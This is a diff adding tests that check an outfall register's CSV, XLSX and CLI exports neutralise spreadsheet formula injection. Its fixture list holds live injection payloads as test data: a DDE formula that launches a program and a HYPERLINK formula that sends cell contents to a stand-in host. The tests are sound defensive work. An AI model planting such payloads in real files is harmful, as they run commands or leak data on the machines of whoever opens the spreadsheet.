@@ -426,3 +426,82 @@ def test_dossier_gathers_the_case(make_outfall: Callable[..., Outfall], session:
     assert abs(snap.point[0] - snap.width / 2) < 1 and abs(snap.point[1] - snap.height / 2) < 1
     with pytest.raises(Exception, match="does not exist"):
         dossier.build_dossier(session, a.id, scope=Scope(area_codes=("610702",)))
+
+
+HOSTILE_NAMES = ("=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "+1+2", "@SUM(1,1)", "-2+3",
+                 "=1+1")  # fmt: skip
+FORMULA_LIKE = ("=1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", " =1", "1-1", "", "渭河")
+
+
+@pytest.fixture
+def hostile(make_outfall: Callable[..., Outfall]) -> list[Outfall]:
+    """Outfalls whose names and responsible party came from a crew's file written to be run by a spreadsheet."""
+    return [
+        make_outfall(lonlat=LINTONG, name=name, found_on=date(2022, 5, 1), receiving_water="-渭河",
+                     history=(HistoryItem(EventKind.TRACED, date(2023, 3, 1), {"responsible_party": "=1+1"}),))
+        for name in HOSTILE_NAMES
+    ]  # fmt: skip
+
+
+def test_csv_register_neutralises_formulas_and_keeps_numbers(hostile: list[Outfall], session: Session,
+                                                             tmp_path: Path) -> None:  # fmt: skip
+    path = tmp_path / "register.csv"
+    registers.export_register(session, path, fmt="csv", scope=NATIONAL, as_of=date(2024, 12, 31))
+    rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
+    assert sorted(r["name"] for r in rows) == sorted("'" + n for n in HOSTILE_NAMES)
+    assert {r["responsible_party"] for r in rows} == {"'=1+1"} and {r["receiving_water"] for r in rows} == {"'-渭河"}
+    for r in rows:  # numbers stay numbers
+        assert float(r["lon"]) == pytest.approx(LINTONG[0]) and int(r["outfall_id"]) > 0
+        assert r["status"] == "traced" and r["found_on"] == "2022-05-01"
+    neg = registers.export_register(session, tmp_path / "w.csv", fmt="csv", scope=NATIONAL, crs=4326)
+    assert neg.rows == len(HOSTILE_NAMES)
+
+
+def test_formula_rule_in_python_and_in_sql(session: Session) -> None:
+    from sqlalchemy import text
+
+    from outfalls.registers.formulas import neutralise, neutralise_sql
+
+    expected = ["'=1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "'=1", " =1", "1-1", "", "渭河"]
+    assert [neutralise(v) for v in FORMULA_LIKE] == expected
+    assert [neutralise(v) for v in (-2, -2.5, None, date(2020, 1, 1))] == [-2, -2.5, None, date(2020, 1, 1)]
+    sql = f"SELECT {neutralise_sql('v')} FROM unnest(CAST(:values AS text[])) WITH ORDINALITY AS t(v, n) ORDER BY n"
+    assert list(session.scalars(text(sql), {"values": list(FORMULA_LIKE)})) == expected
+    assert session.scalar(text(f"SELECT {neutralise_sql('CAST(NULL AS text)')}")) is None
+
+
+def test_xlsx_register_writes_names_as_text(hostile: list[Outfall], session: Session, tmp_path: Path) -> None:
+    for by in ("basin", "type"):
+        path = tmp_path / f"register-{by}.xlsx"
+        registers.export_register(session, path, fmt="xlsx", scope=NATIONAL, as_of=date(2024, 12, 31), by=by)
+        wb = openpyxl.load_workbook(path)
+        cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"]
+        names = {c.value for c in cells if c.data_type in ("s", "inlineStr")}
+        assert set(HOSTILE_NAMES) <= names  # verbatim, as text
+
+
+def test_cli_keep_list_csv_neutralises_formulas(pg_cluster: Cluster, clone_db: Callable[[str], str],
+                                                open_tmp: Path) -> None:  # fmt: skip
+    from outfalls.catalogue.lifecycle import NewOutfall, create_outfalls
+
+    url = clone_db("keep_list_formulas")
+    engine = make_engine(url)
+    try:
+        with Session(engine) as s:
+            history = (HistoryItem(EventKind.TRACED, date(2023, 3, 1), {"responsible_party": "甲公司"}),
+                       HistoryItem(EventKind.REMEDIATION_PLANNED, date(2023, 6, 1), {"category": "none_needed"}))
+            create_outfalls(s, [NewOutfall(lonlat=LINTONG, name=name, type_code="4.8", found_by=SurveyLevel.FOOT,
+                                           found_on=date(2022, 5, 1), local_code="-7", history=history)
+                                for name in HOSTILE_NAMES], actor="t")  # fmt: skip
+            s.commit()
+        out = CliRunner().invoke(main, ["case", "keep-list", "-o", str(open_tmp / "keep.csv")],
+                                 env={"OUTFALLS_DATABASE_URL": url, "OUTFALLS_DATA_DIR": str(open_tmp / "d")})
+        assert out.exit_code == 0, out.output
+        text = (open_tmp / "keep.csv").read_text(encoding="utf-8-sig")
+        rows = list(csv.DictReader(io.StringIO(text, newline="")))
+        assert sorted(r["name"] for r in rows) == sorted("'" + n for n in HOSTILE_NAMES)
+        assert {r["local_code"] for r in rows} == {"'-7"} and {float(r["lon"]) for r in rows} == {LINTONG[0]}
+    finally:
+        engine.dispose()
+        pg_cluster.drop_database("keep_list_formulas")
